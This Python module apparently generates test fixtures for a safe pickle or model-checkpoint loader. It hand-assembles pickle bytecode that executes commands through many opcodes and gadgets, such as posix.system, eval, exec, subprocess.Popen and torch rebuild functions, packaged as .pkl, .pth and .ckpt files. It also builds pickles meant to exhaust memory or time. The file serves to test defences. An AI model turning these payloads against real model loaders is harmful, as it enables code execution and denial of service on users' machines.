"""Files that would run code or cost much, each written operation by operation."""

import io
import pickle
import struct
import zipfile
from pathlib import Path

# Format of torch.save before torch 1.6: these three pickles come before the content.
OLD_TORCH_HEAD = b"".join(
    pickle.dumps(value, protocol=2)
    for value in (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True})
)


class Touch:
    """A class that does something where it is made."""

    def __new__(cls, path):
        Path(path).touch()
        return super().__new__(cls)


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def named(name):
    module, _, attribute = name.rpartition(".")
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def called(name, *arguments):
    """Call what a name stands for, with arguments that are operations."""
    return named(name) + b"(" + b"".join(arguments) + b"tR"


def bombs(marker):
    """Return operations that make a file `marker` where a pickle is trusted, by what they use."""
    command = text(f"touch {marker}")
    code = text(f"open({str(marker)!r}, 'w')")
    system, touch = named("posix.system"), called("posix.system", command)
    namespace = named("argparse.Namespace") + b")R"
    nested = io.BytesIO()
    nested.write(OLD_TORCH_HEAD + b"\x80\x02" + touch + b"." + b"\x80\x02].")
    return {
        "REDUCE": touch,
        "STACK_GLOBAL": text("posix") + text("system") + b"\x93" + command + b"\x85R",
        "INST": b"(" + command + b"iposix\nsystem\n",
        "OBJ": b"(" + system + command + b"o",
        "NEWOBJ": named("malicious_files.Touch") + text(str(marker)) + b"\x85\x81",
        "NEWOBJ_EX": named("malicious_files.Touch") + text(str(marker)) + b"\x85}\x92",
        "BUILD": namespace + b"}" + text("__setstate__") + system + b"sb" + command + b"b",
        "EXT1": b"\x82\xf0" + command + b"\x85R",
        "persistent id": b"(" + text("module") + touch + text("a") + text("b") + b"tQ",
        "persistent id as text": touch + b"0Pstorage\n",
        "storage": b"(" + text("storage") + touch + text("0") + text("cpu") + b"K\x01tQ",
        "eval": called("builtins.eval", code),
        "eval of Python 2": b"\x80\x02" + called("__builtin__.eval", code) + b"\x80\x04",
        "exec": called("builtins.exec", code),
        "open": called("io.open", text(str(marker)), text("w")),
        "pathlib": b"cpathlib\nPath.touch\n"
        + called("pathlib.PosixPath", text(str(marker)))
        + b"\x85R",
        "getattr": called(
            "builtins.getattr", called("builtins.__import__", text("os")), text("system")
        )
        + command
        + b"\x85R",
        "partial": called("functools.partial", system, command) + b")R",
        "methodcaller": called("operator.methodcaller", text("system"), command)
        + called("importlib.import_module", text("os"))
        + b"\x85R",
        "map": called("builtins.list", called("builtins.map", system, b"](" + command + b"e")),
        "timeit": called("timeit.timeit", code, text("pass"), named("time.perf_counter"), b"K\x01"),
        "runpy": called(
            "runpy._run_code", called("builtins.compile", code, text("a"), text("exec")), b"}"
        ),
        "numpy": called("numpy.testing._private.utils.runstring", code, b"}"),
        "torch.load": called(
            "torch.storage._load_from_bytes",
            b"B" + struct.pack("<I", len(nested.getvalue())) + nested.getvalue(),
        ),
        "ordered dict": called("collections.OrderedDict", b"](" + text("a") + touch + b"\x86e"),
        "default dict": called("collections.defaultdict", system) + text("a") + touch + b"s",
        "key": b"}" + touch + b"K\x01s",
        "set": called("builtins.set", b"](" + touch + b"e"),
        "frozenset": b"(" + touch + b"\x91",
        "array of objects": called(
            "numpy._core.multiarray._reconstruct", named("numpy.ndarray"), b"K\x00\x85", text("b")
        )
        + b"(K\x01K\x01\x85"
        + called("numpy.dtype", text("O8"), b"\x89", b"\x88")
        + b"\x89]("
        + touch
        + b"etb",
        "requires_grad": called(
            "torch._utils._rebuild_tensor_v2", b"N", b"K\x00", b")", b")", touch, b"N"
        ),
        "hooks": called(
            "torch._utils._rebuild_parameter", b"N", b"\x89", b"(" + text("a") + touch + b"d"
        ),
        "state of a parameter": called(
            "torch._utils._rebuild_parameter_with_state", b"N", b"\x89", b"N", touch
        ),
        "rebuild of a type": called(
            "torch._tensor._rebuild_from_type_v2",
            system,
            named("torch.Tensor"),
            command + b"\x85",
            b"N",
        ),
        "reconstructor": called(
            "copyreg._reconstructor", named("subprocess.Popen"), named("builtins.object"), b"N"
        )
        + touch
        + b"b",
    }


def wrapped(content):
    """Return the operations of a checkpoint's dict, with `content` in it."""
    return (
        b"\x80\x04("
        + text("extra")
        + content
        + text("state_dict")
        + b"}"
        + text("epoch")
        + b"K\x01d."
    )


def forms(operations):
    """Return files of each format whose content is these operations, by suffix."""
    head, keys = OLD_TORCH_HEAD, pickle.dumps([], protocol=2)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        for name, data in (("data.pkl", operations), ("version", b"3\n"), ("byteorder", b"little")):
            file.writestr(f"archive/{name}", data)
    return {"a.pkl": operations, "b.pth": head + operations + keys, "c.ckpt": archive.getvalue()}


def deep(value, levels, operation):
    """Nest a value: each level refers to the one below twice."""
    return value + b"".join(
        b"q" + bytes([n]) + b"h" + bytes([n]) + operation for n in range(levels)
    )


def costly():
    """Return small pickles that cost hours or gigabytes where they are believed."""
    floats = named("torch.FloatStorage")
    storage = b"(" + text("storage") + floats + text("0") + text("cpu")
    big = b"B" + struct.pack("<I", 100_000) + bytes(100_000) + b"q\x01"
    many = 20_000
    return {
        "tuples as a key": b"}" + deep(b")", 60, b"\x86") + b"Ns.",
        "tuples in a set": b"\x8f(" + deep(b")", 60, b"\x86") + b"\x90.",
        "tuples in a frozenset": b"(" + deep(b")", 60, b"\x86") + b"\x91.",
        "repr": b"}" + text("model") + b"}" + deep(b"K\x01\x85", 60, b"\x86") + b"Nss.",
        "shared lists": deep(b"]", 60, b"\x86") + b".",
        "shared dicts": b"}"
        + text("trunk")
        + b"}"
        + text("a")
        + b"Nss"
        + text("heads")
        + b"}"
        + b"".join(
            b"q"
            + bytes([n])
            + b"}"
            + text("a")
            + b"h"
            + bytes([n])
            + b"s"
            + text("b")
            + b"h"
            + bytes([n])
            + b"s"
            for n in range(60)
        )
        + b"s.",
        "bytearray": b"\x80\x05\x96" + struct.pack("<Q", 2**40) + b".",
        "bytes": b"\x80\x04\x8e" + struct.pack("<Q", 2**40) + b".",
        "text": b"\x80\x04\x8d" + struct.pack("<Q", 2**40) + b".",
        "memo": b"Nr\xff\xff\xff\x7f.",
        "memo as text": b"Np999999999999\n.",
        "nesting": b"]" * many + b"a" * (many - 1) + b".",
        "a dict in itself": b"}q\x00" + text("model") + b"h\x00s.",
        "colliding keys": b"}("
        + b"".join(
            b"\x8a\x0a" + (n * (2**61 - 1)).to_bytes(10, "little") + b"N" for n in range(1, 20_000)
        )
        + b"u.",
        "bytes again and again": b"]("
        + text("a" * 100_000)
        + b"q\x010"
        + (named("_codecs.encode") + b"q\x020" + (b"h\x02h\x01" + text("latin1") + b"\x86R") * 2000)
        + b"e.",
        "arrays of the same bytes": big
        + b"0"
        + called("numpy.dtype", text("u1"))
        + b"(K\x03"
        + text("|")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tbq\x020]("
        + (
            called(
                "numpy._core.numeric._frombuffer",
                b"h\x01",
                b"h\x02",
                b"J" + struct.pack("<i", 100_000) + b"\x85",
                text("C"),
            )
        )
        * 2000
        + b"e.",
        "strides of 0": called(
            "torch._utils._rebuild_tensor_v2",
            storage + b"K\x01tQ",
            b"K\x00",
            b"\x8a\x06" + (10**12).to_bytes(6, "little") + b"\x85",
            b"K\x00\x85",
            b"\x89",
            b"N",
        )
        + b".",
        "sizes beyond all": called(
            "torch._utils._rebuild_tensor_v2",
            storage + b"K\x01tQ",
            b"K\x00",
            (b"\x8a\x09" + (2**62).to_bytes(9, "little")) * 2 + b"\x86",
            b"K\x00K\x00\x86",
            b"\x89",
            b"N",
        )
        + b".",
        "a storage beyond all": storage + b"\x8a\x06" + (10**12).to_bytes(6, "little") + b"tQ.",
        "a number of many digits": b"}\x8b"
        + struct.pack("<I", 100_000)
        + b"\x7f" * 100_000
        + b"Ns.",
        "names of many lines": b"}(" + text("a\n" * 100_000) + b"N" + text("b" * 100_000) + b"Nu.",
        "types of many letters": called("numpy.dtype", text("O" * 100_000)) + b"Nb.",
    }
